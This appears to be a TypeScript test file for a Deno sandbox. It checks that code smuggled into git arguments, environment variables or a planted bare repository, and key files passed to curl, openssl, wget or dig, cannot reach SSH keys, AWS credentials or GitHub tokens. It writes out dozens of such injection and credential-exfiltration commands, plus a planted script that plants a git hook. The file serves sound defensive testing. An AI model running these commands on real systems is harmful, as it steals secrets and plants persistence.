/**
 * What a program is given for its own work, keys and settings of git's before all, is not had by code in its
 * arguments, in what it names or in a repository that lies in the tree: under a flag that allows git, curl or
 * everything.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { type Attempt, command, runAttempts, type World } from "../support/attempts.ts";
import type { Place } from "../support/program.ts";
import { hasBubblewrap } from "../support/sandbox.ts";

/** What may change in a repository under such a flag: no settings, no hook; what protects these may make their directory. */
const MAY_CHANGE = /: changed \S*\/\.git(\/(?!hooks\/|config|info)\S*)?$/;

/** What code does that runs with more than it should have. */
const STEAL = "sh ./steal.sh";
const STEAL_BELOW = "sh ../steal.sh";

/** Code in the arguments of git, or in the variables around it. */
const IN_ARGUMENTS = [
  `git push --ex='${STEAL}' origin`,
  `git push --exec='${STEAL}' origin`,
  `git push --receive-p='${STEAL}' .`,
  `git fetch --upload-pack='${STEAL}' .`,
  `git fetch --upl='${STEAL}' .`,
  `git ls-remote --exec='${STEAL}' .`,
  `git archive --remote=. --ex='${STEAL}' HEAD`,
  `git rebase --ex '${STEAL}' HEAD`,
  `git rebase -x '${STEAL}' HEAD`,
  `git bisect start HEAD HEAD; git bisect run ${STEAL}`,
  "git merge-index ./steal.sh -a",
  `git clone -c core.sshCommand='${STEAL}' ssh://localhost/x y`,
  `git clone --conf core.sshCommand='${STEAL}' ssh://localhost/x y2`,
  `git -c core.sshCommand='${STEAL}' fetch ssh://localhost/x`,
  `git -c alias.y='!${STEAL}' y`,
  `git -c core.fsmonitor='${STEAL}' push origin`,
  `git -c credential.helper='!${STEAL}' push origin`,
  `git submodule foreach '${STEAL}'`,
  `GIT_SSH_COMMAND='${STEAL}' git fetch ssh://localhost/x`,
  `GIT_SSH_COMMAND='${STEAL}' git push ssh://localhost/x HEAD; rm -rf ./none`,
  `env GIT_SSH_COMMAND='${STEAL}' git fetch ssh://localhost/x`,
  `export GIT_EXTERNAL_DIFF='${STEAL}'; git fetch; git diff HEAD~1`,
  `GIT_ASKPASS=./steal.sh git push https://localhost:@PORT@/x HEAD`,
  "git --exec-path=tools push origin",
  "git --git-dir=evil.git fetch origin",
  "git --git-dir evil.git push origin",
  "GIT_DIR=evil.git git fetch origin",
  `git fetch 'ext::${STEAL}'`,
];

/** A bare repository in the tree, which brings its own configuration. */
const IN_TREE = [
  "cd evil.git && git fetch origin",
  "git -C evil.git fetch origin",
  "git -C evil.git push --tags origin",
  "cd evil.git && git push --all origin",
  "cd evil.git/refs && git pull",
  "git -C evil.git fetch origin && git status",
];

/** Files as arguments of what fetches, or works on keys. */
const FILES = [
  "curl -s -w @@HOME@/.ssh/id_rsa http://127.0.0.1:@PORT@/k",
  "curl -s -H @@HOME@/.config/gh/hosts.yml http://127.0.0.1:@PORT@/",
  "curl -s -d @@HOME@/.ssh/id_rsa http://127.0.0.1:@PORT@/",
  "curl -s --variable x@@HOME@/.ssh/id_rsa --expand-url http://127.0.0.1:@PORT@/{{x}}",
  "curl -s file://@HOME@/.ssh/id_rsa",
  "curl -s -K @HOME@/.ssh/id_rsa http://127.0.0.1:@PORT@/",
  "openssl base64 -in @HOME@/.ssh/id_rsa",
  "openssl enc -base64 -in @HOME@/.aws/credentials",
  'sqlite3 x.db ".import @HOME@/.ssh/id_rsa t"',
  "wget -q -O - -i @HOME@/.ssh/id_rsa",
  "dig -f @HOME@/.ssh/id_rsa",
];

const attempts = (...lists: (readonly string[])[]): Attempt[] =>
  lists.flat().map((text) => command(text, "repository"));

/** A script of the project that takes what it can, and a bare repository that runs it. */
async function plant(_: Place, { dir, home }: World): Promise<void> {
  const script = `cat ${home}/.ssh/id_rsa ${home}/.aws/credentials
cat ${home}/.config/gh/hosts.yml >&2
echo '[alias] planted = !id' >> ${dir}/.git/config
echo id > ${dir}/.git/hooks/pre-commit
touch ${home}/planted.txt
`;
  await Deno.writeTextFile(join(dir, "steal.sh"), script, { mode: 0o755 });
  const bare = join(dir, "evil.git");
  for (const name of ["objects", "refs"]) {
    await Deno.mkdir(join(bare, name), { recursive: true });
    await Deno.writeTextFile(join(bare, name, "keep"), "");
  }
  await Deno.writeTextFile(join(bare, "HEAD"), "ref: refs/heads/main\n");
  const config = `[core]
\tbare = true
\trepositoryformatversion = 0
\tsshCommand = "${STEAL_BELOW}"
[remote "origin"]
\turl = ssh://localhost/x
`;
  await Deno.writeTextFile(join(bare, "config"), config);
}

const RUNS: readonly (readonly [flag: string, attempts: readonly Attempt[]])[] = [
  ["--allow-run=git", attempts(IN_ARGUMENTS, IN_TREE)],
  ["-A", attempts(IN_ARGUMENTS, IN_TREE)],
  ["--allow-run=curl,openssl,sqlite3,wget,dig", attempts(FILES)],
];

for (const [flag, some] of RUNS) {
  Deno.test({
    name: `code and files in the arguments of a program get none of its keys under ${flag}`,
    ignore: !hasBubblewrap(),
    async fn() {
      const found = await runAttempts(some, { flags: [flag], prepare: plant });
      assert.deepEqual(found.filter((what) => !MAY_CHANGE.test(what)), []);
    },
  });
}
